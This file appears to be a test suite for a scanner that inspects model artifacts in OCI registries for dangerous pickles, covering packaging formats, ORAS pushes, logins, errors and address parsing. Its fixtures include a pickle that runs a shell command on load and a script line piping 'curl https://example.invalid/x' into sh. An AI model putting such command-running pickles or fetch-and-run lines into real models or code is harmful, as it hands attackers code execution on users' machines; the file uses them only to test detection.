"""Artifacts of a real registry (Debian's docker-registry), pushed by hand and by ORAS."""

from __future__ import annotations

import gzip
import io
import tarfile
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

import httpx
import pytest
import zstandard
from hypothesis import given
from hypothesis import strategies as st

from tests.engine.sparse_models import safetensors, torch_zip
from tests.servers.docker_registry import (
    INDEX,
    PASSWORD,
    USERNAME,
    Layer,
    Registry,
    index_of,
    running_registry,
)
from weighbridge.bytesource.http_redirect import origin_of
from weighbridge.bytesource.http_settings import HttpSettings
from weighbridge.core.report import Report
from weighbridge.engine.scan import ScanSettings, scan_target
from weighbridge.errors import AccessDenied, TargetNotFound, TargetUnavailable, UsageError
from weighbridge.fetchers.interface import FetchSettings
from weighbridge.fetchers.oci.layout import placements
from weighbridge.fetchers.oci.manifest import Descriptor
from weighbridge.fetchers.oci.ollama import parse_ollama_target
from weighbridge.fetchers.oci.reference import parse_oci_target
from weighbridge.fetchers.registry import fetch

MIB = 1 << 20
PAYLOAD = b"cposix\nsystem\n" + b"X\x17\0\0\0echo weighbridge-marker\x85R0"
MODELPACK = "application/vnd.cncf.model"
KITOPS = "application/vnd.kitops.modelkit"
FILE, TITLE = "org.cncf.model.filepath", "org.opencontainers.image.title"
KITFILE = Layer(content=b'{"manifestVersion": "1.0.0"}', media_type=f"{KITOPS}.config.v1+json")


@pytest.fixture(scope="module")
def registry(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Registry]:
    with running_registry(tmp_path_factory.mktemp("registry")) as running:
        yield running


@pytest.fixture(scope="module")
def closed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Registry]:
    with running_registry(tmp_path_factory.mktemp("closed"), is_closed=True) as running:
        yield running


@pytest.fixture(autouse=True)
def _nobody(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("DOCKER_CONFIG", str(tmp_path))


@pytest.fixture(scope="module")
def checkpoint(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """Eight MiB, of which one kilobyte is a pickle that runs a command."""
    path = tmp_path_factory.mktemp("checkpoint") / "m.bin"
    torch_zip(path, 8 * MIB, payload=PAYLOAD)
    return path.read_bytes()


@pytest.fixture(scope="module")
def tensors(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    path = tmp_path_factory.mktemp("tensors") / "m.safetensors"
    safetensors(path, 8 * MIB)
    return path.read_bytes()


def tar_of(**files: bytes) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, content in files.items():
            member = tarfile.TarInfo(name.replace("_", "."))
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return buffer.getvalue()


def scan(registry: Registry, name: str) -> Report:
    return scan_target(f"oci://{registry.host}/{name}", ScanSettings(jobs=1))


def bad_files(report: Report) -> set[str]:
    return {finding.artifact for finding in report.findings if finding.rule == "PKL002"}


def names(report: Report) -> list[str]:
    return sorted({row.path[0] for row in report.coverage if row.path != ("*",)})


class TestPackages:
    """Every kind of model package is read by ranges, and what it runs is found."""

    def test_a_raw_layer_of_modelpack_costs_three_requests_and_little(
        self, registry: Registry, checkpoint: bytes
    ) -> None:
        layer = Layer(
            content=checkpoint,
            media_type=f"{MODELPACK}.weight.v1.raw",
            annotations={FILE: "pytorch_model.bin"},
        )
        digest = registry.push("acme/raw", "1", [layer])

        report = scan(registry, "acme/raw:1")

        assert bad_files(report) == {"pytorch_model.bin!/model/data.pkl"}
        assert report.is_complete
        assert report.origin.revision == digest
        assert report.traffic.requests == 3
        assert report.traffic.bytes_received < 140_000

    def test_a_clean_model_passes_with_two_requests(self, registry: Registry, tensors: bytes) -> None:
        layer = Layer(
            content=tensors,
            media_type=f"{MODELPACK}.weight.v1.raw",
            annotations={FILE: "model.safetensors"},
        )
        registry.push("acme/clean", "1", [layer])

        report = scan(registry, "acme/clean:1")

        assert (report.findings, report.is_complete) == ((), True)
        assert report.traffic.requests == 2
        assert report.traffic.bytes_received < 70_000

    def test_a_tar_is_walked_without_its_tensors(
        self, registry: Registry, checkpoint: bytes, tensors: bytes
    ) -> None:
        content = tar_of(model_safetensors=tensors, model_bin=checkpoint)
        layer = Layer(content=content, media_type=f"{KITOPS}.model.v1.tar")
        registry.push("acme/kit", "1", [layer], config=KITFILE)

        report = scan(registry, "acme/kit:1")

        assert bad_files(report) == {"model-01.tar!/model.bin!/model/data.pkl"}
        assert report.is_complete
        assert names(report) == ["Kitfile.json", "model-01.tar", "oci-manifest.json"]
        assert len(content) > 16 * MIB
        assert report.traffic.requests == 6
        assert report.traffic.bytes_received < 300_000

    @pytest.mark.parametrize(
        ("media_type", "packed"),
        [
            (f"{KITOPS}.model.v1.tar+gzip", gzip.compress),
            (f"{MODELPACK}.code.v1.tar+zstd", zstandard.compress),
        ],
    )
    def test_a_compressed_tar_is_streamed(
        self, registry: Registry, media_type: str, packed: Callable[[bytes], bytes]
    ) -> None:
        layer = Layer(content=packed(tar_of(x_pkl=PAYLOAD + b"N.")), media_type=media_type)
        registry.push("acme/zipped", "1", [layer])

        report = scan(registry, "acme/zipped:1")

        assert {path.rpartition("!/")[2] for path in bad_files(report)} == {"x.pkl"}
        assert report.is_complete

    def test_every_image_of_an_index_is_looked_at(self, registry: Registry) -> None:
        rows = []
        for machine, content in (("amd64", b"\x80\x04N."), ("arm64", PAYLOAD + b"N.")):
            packed = gzip.compress(tar_of(model_pkl=content), mtime=0)
            layer = Layer(content=packed, media_type="application/vnd.oci.image.layer.v1.tar+gzip")
            digest = registry.push("acme/image", machine, [layer])
            size = len(registry.get(f"/v2/acme/image/manifests/{digest}"))
            platform = {"os": "linux", "architecture": machine}
            rows.append(
                {
                    "mediaType": "application/vnd.oci.image.manifest.v1+json",
                    "digest": digest,
                    "size": size,
                    "platform": platform,
                }
            )
        registry.put_manifest("acme/image", "all", index_of(rows), INDEX)

        report = scan(registry, "acme/image:all")

        assert {path.partition("!/")[0] for path in bad_files(report)} == {"linux-arm64/layer-01.tar.gz"}
        assert "linux-amd64/layer-01.tar.gz" in names(report)
        assert report.is_complete

    def test_one_manifest_of_an_index_can_be_asked_for(self, registry: Registry) -> None:
        layer = Layer(content=PAYLOAD + b"N.", media_type="x/y", annotations={TITLE: "a.pkl"})
        digest = registry.push("acme/one", "1", [layer])

        report = scan(registry, f"acme/one:moved@{digest}")

        assert bad_files(report) == {"a.pkl"}
        assert report.origin.location == f"oci://{registry.host}/acme/one@{digest}"

    @pytest.mark.parametrize(
        ("media_type", "annotations", "expected"),
        [
            (f"{MODELPACK}.code.v1.tar", {TITLE: "run.py"}, {"run.py"}),
            (f"{MODELPACK}.code.v1.raw", {FILE: "notes.txt", TITLE: "run.py"}, {"run.py"}),
            ("application/vnd.ollama.image.system", {TITLE: "run.py"}, {"run.py"}),
        ],
    )
    def test_a_file_is_judged_under_every_name_that_a_client_gives_it(
        self, registry: Registry, media_type: str, annotations: dict[str, str], expected: set[str]
    ) -> None:
        script = b"import os\nos.system('curl https://example.invalid/x | sh')\n"
        layer = Layer(content=script, media_type=media_type, annotations=annotations)
        registry.push("acme/names", "1", [layer])

        report = scan(registry, "acme/names:1")

        assert {finding.path[0] for finding in report.findings if finding.path != ("*",)} >= expected


class TestOras:
    """What the ORAS client pushes, as it pushes it."""

    def test_files_keep_their_names(self, registry: Registry, tmp_path: Path) -> None:
        oras = pytest.importorskip("oras.client")
        (tmp_path / "config.json").write_text('{"model_type": "bert"}')
        (tmp_path / "model.pkl").write_bytes(PAYLOAD + b"N.")
        client = oras.OrasClient(insecure=True)

        client.push(
            target=f"{registry.host}/acme/oras:1",
            files=[str(tmp_path / "config.json"), str(tmp_path / "model.pkl")],
            disable_path_validation=True,
        )
        report = scan(registry, "acme/oras:1")

        assert {Path(path).name for path in bad_files(report)} == {"model.pkl"}
        assert {Path(name).name for name in names(report)} >= {"config.json", "model.pkl"}

    def test_a_folder_is_an_archive(self, registry: Registry, tmp_path: Path) -> None:
        oras = pytest.importorskip("oras.client")
        (tmp_path / "weights").mkdir()
        (tmp_path / "weights" / "model.pkl").write_bytes(PAYLOAD + b"N.")
        client = oras.OrasClient(insecure=True)

        client.push(
            target=f"{registry.host}/acme/folder:1",
            files=[f"{tmp_path / 'weights'}:{MODELPACK}.weight.v1.tar+gzip"],
            disable_path_validation=True,
        )
        report = scan(registry, "acme/folder:1")

        assert {path.rpartition("!/")[2] for path in bad_files(report)} == {"weights/model.pkl"}


class TestLogin:
    """A registry that asks for a password."""

    def push(self, closed: Registry) -> None:
        layer = Layer(content=PAYLOAD + b"N.", media_type="x/y", annotations={TITLE: "a.pkl"})
        closed.push("acme/private", "1", [layer])

    def test_a_login_of_the_environment_opens_it(
        self, closed: Registry, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        self.push(closed)
        monkeypatch.setenv("WEIGHBRIDGE_OCI_REGISTRY", closed.host)
        monkeypatch.setenv("WEIGHBRIDGE_OCI_USERNAME", USERNAME)
        monkeypatch.setenv("WEIGHBRIDGE_OCI_PASSWORD", PASSWORD)

        assert bad_files(scan(closed, "acme/private:1")) == {"a.pkl"}

    def test_what_docker_login_wrote_opens_it(self, closed: Registry, tmp_path: Path) -> None:
        self.push(closed)
        entry = f'{{"username": "{USERNAME}", "password": "{PASSWORD}"}}'
        (tmp_path / "config.json").write_text(f'{{"auths": {{"{closed.host}": {entry}}}}}')

        assert bad_files(scan(closed, "acme/private:1")) == {"a.pkl"}

    def test_without_a_login_it_says_what_to_set(self, closed: Registry) -> None:
        self.push(closed)

        with pytest.raises(AccessDenied, match=r"asks for a login; no login is known.*OCI_REGISTRY"):
            scan(closed, "acme/private:1")

    def test_a_wrong_password_is_said(self, closed: Registry, monkeypatch: pytest.MonkeyPatch) -> None:
        self.push(closed)
        monkeypatch.setenv("WEIGHBRIDGE_OCI_REGISTRY", closed.host)
        monkeypatch.setenv("WEIGHBRIDGE_OCI_USERNAME", USERNAME)
        monkeypatch.setenv("WEIGHBRIDGE_OCI_PASSWORD", "wrong")

        with pytest.raises(AccessDenied, match="login is refused, or may not read"):
            scan(closed, "acme/private:1")


class TestErrors:
    """What is not there is said with what is."""

    def test_a_missing_tag_is_said_with_those_that_are_there(self, registry: Registry) -> None:
        registry.push("acme/tags", "v2", [])
        registry.push("acme/tags", "v1", [])

        with pytest.raises(TargetNotFound, match="no tag 'latest'; it has 'v1', 'v2'"):
            scan(registry, "acme/tags")

    def test_a_missing_repository_is_said(self, registry: Registry) -> None:
        with pytest.raises(TargetNotFound, match="There is no repository"):
            scan(registry, "acme/absent:1")

    def test_a_registry_that_is_not_there_is_said(self) -> None:
        settings = ScanSettings(jobs=1, fetch=FetchSettings(http=HttpSettings(attempts=1)))
        with pytest.raises(TargetUnavailable, match=r"Can't read 127\.0\.0\.1:1/acme/m:1"):
            scan_target("oci://127.0.0.1:1/acme/m:1", settings)

    def test_offline_nothing_is_asked(self, registry: Registry) -> None:
        with pytest.raises(TargetUnavailable, match="--offline"):
            fetch(f"oci://{registry.host}/acme/m:1", FetchSettings(is_offline=True))


class TestSpelling:
    """Addresses of artifacts."""

    @pytest.mark.parametrize(
        ("target", "endpoint", "repository", "wanted"),
        [
            ("oci://ghcr.io/org/model:v1", "https://ghcr.io", "org/model", "v1"),
            ("oci://ghcr.io/org/model", "https://ghcr.io", "org/model", "latest"),
            ("oci://docker.io/ubuntu", "https://registry-1.docker.io", "library/ubuntu", "latest"),
            ("oci://docker.io/ai/smollm2", "https://registry-1.docker.io", "ai/smollm2", "latest"),
            ("oci://localhost:5000/m:x", "http://localhost:5000", "m", "x"),
            ("oci://[::1]:5000/m", "http://[::1]:5000", "m", "latest"),
            ("oci+http://registry.lan/m", "http://registry.lan", "m", "latest"),
            (f"oci://r.io/m:t@sha256:{'a' * 64}", "https://r.io", "m", f"sha256:{'a' * 64}"),
        ],
    )
    def test_an_address_is_taken_apart(
        self, target: str, endpoint: str, repository: str, wanted: str
    ) -> None:
        reference = parse_oci_target(target)

        assert (reference.endpoint, reference.repository, reference.wanted) == (
            endpoint,
            repository,
            wanted,
        )

    @pytest.mark.parametrize(
        "target",
        [
            "oci://",
            "oci://ghcr.io",
            "oci://ghcr.io/",
            "oci://ghcr.io/Org/Model",
            "oci://ghcr.io/../x",
            "oci://ghcr.io/a//b",
            "oci://ghcr.io/m:",
            "oci://ghcr.io/m:a/b",
            "oci://ghcr.io/m@sha256:1234",
            "oci://gh cr.io/m",
            "oci://ghcr.io?x/m",
            "oci://ghcr.io:99999/m",
            "oci://ghcr.io:/m",
            "oci://[::::]/m",
            "oci://[1.2.3.4]/m",
        ],
    )
    def test_what_is_no_address_is_said(self, target: str) -> None:
        with pytest.raises(UsageError, match="write oci://"):
            parse_oci_target(target)

    @given(
        st.text(max_size=40),
        st.sampled_from(["oci://", "oci+http://", "oci://[", "oci://h/", "ollama://"]),
    )
    def test_any_spelling_is_taken_apart_or_said(self, text: str, scheme: str) -> None:
        parse = parse_ollama_target if scheme == "ollama://" else parse_oci_target
        with suppress(UsageError):
            reference = parse(scheme + text)
            assert origin_of(httpx.URL(f"{reference.api}/blobs/x"))[1]

    def test_a_password_in_an_address_is_refused_and_not_repeated(self) -> None:
        with pytest.raises(UsageError, match="does not belong into a target") as caught:
            parse_oci_target("oci://reader:secret-word@ghcr.io/m")

        assert "secret-word" not in str(caught.value)


@pytest.mark.parametrize(
    ("media_type", "annotations", "name"),
    [
        ("application/vnd.ollama.image.model", {}, "model.gguf"),
        ("application/vnd.ollama.image.template", {}, "template"),
        ("application/vnd.ollama.image.system", {}, "system_prompt.txt"),
        ("application/vnd.docker.ai.gguf.v3", {}, "model.gguf"),
        ("application/vnd.docker.ai.chat.template.jinja", {}, "chat_template.jinja"),
        ("application/vnd.docker.image.rootfs.diff.tar.gzip", {}, "layer-03.tar.gz"),
        ("application/vnd.oci.image.layer.v1.tar+zstd", {}, "layer-03.tar.zst"),
        ("application/vnd.oci.image.layer.v1.tar", {TITLE: "a.safetensors"}, "a.safetensors"),
        (
            "application/vnd.oci.image.layer.v1.tar+gzip",
            {TITLE: "d", "io.deis.oras.content.unpack": "true"},
            "d.tar.gz",
        ),
        ("application/vnd.cnai.model.weight.v1.tar", {"org.cnai.model.filepath": "w"}, "w.tar"),
        ("application/vnd.cncf.model.weight.v1.raw", {FILE: "./a//b.bin"}, "a/b.bin"),
        ("application/vnd.cncf.model.doc.v1.tar+gzip", {}, "doc-03.tar.gz"),
    ],
)
def test_a_layer_is_named_by_its_annotations_or_its_type(
    media_type: str, annotations: dict[str, str], name: str
) -> None:
    descriptor = Descriptor(digest="", media_type=media_type, annotations=annotations)

    assert [placement.name for placement in placements(descriptor, 3)] == [name]
